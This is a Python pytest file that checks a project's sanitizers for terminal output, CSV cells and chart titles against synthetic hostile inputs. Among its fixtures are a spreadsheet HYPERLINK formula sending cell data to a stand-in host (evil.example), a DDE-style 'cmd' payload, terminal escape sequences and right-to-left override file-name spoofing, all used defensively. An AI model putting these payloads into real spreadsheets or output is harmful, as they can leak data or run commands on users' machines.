"""The one sanitizer per medium (analysis.text): terminal, CSV/spreadsheet cells, chart titles. SYNTHETIC payloads
from the hostile-input probe."""

from __future__ import annotations

import pytest

from analysis.console import plain
from analysis.text import chart_text, csv_cell, escape_dollars, escape_markdown, formula_like, terminal_text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;owned\x07title", "\\x1b]0;owned\\x07title"),
        ("\x1b[2Jcleared", "\\x1b[2Jcleared"),
        ("txt\u202eexe.doc", "txt\\u202eexe.doc"),
        ("a\u2066b\u2069c\u200f", "a\\u2066b\\u2069c\\u200f"),
        ("one\ntwo\r\nthree", "one two three"),
        ("NUL\x00 VT\x0b DEL\x7f C1\x9b", "NUL\\x00 VT\\x0b DEL\\x7f C1\\x9b"),
        ("Medical Records Specialists", "Medical Records Specialists"),
        ("Mayagüez, PR — 12 café", "Mayagüez, PR — 12 café"),
    ],
)
def test_terminal_text_shows_every_control_and_bidi_character(raw, shown):
    assert terminal_text(raw) == shown
    assert plain(raw) == shown  # the console's escaper is the same one


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"x")', '\'=HYPERLINK("http://evil.example/?"&A2,"x")'),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Health Information Technologists", "Health Information Technologists"),
        ("", ""),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_csv_cell_neutralises_formula_starts_only(value, expected):
    assert csv_cell(value) == expected
    assert formula_like(value) == (expected != value)


def test_chart_text_removes_controls_and_bidi():
    assert chart_text("A\x1b[31mB\x07C\x00D\u202eE\tF\nG") == "A[31mBCDE F\nG"
    assert chart_text("Medical Records Specialists, May 2025") == "Medical Records Specialists, May 2025"


def test_escape_dollars_escapes_each_dollar_once():
    # the national, industry and outlook prose share it: "$48,310" -> "\$48,310", an escaped "\$" stays one escape
    assert escape_dollars("$48,310 and $23.23") == "\\$48,310 and \\$23.23"
    assert escape_dollars(escape_dollars("$5")) == "\\$5" == escape_dollars(escape_markdown("$5"))
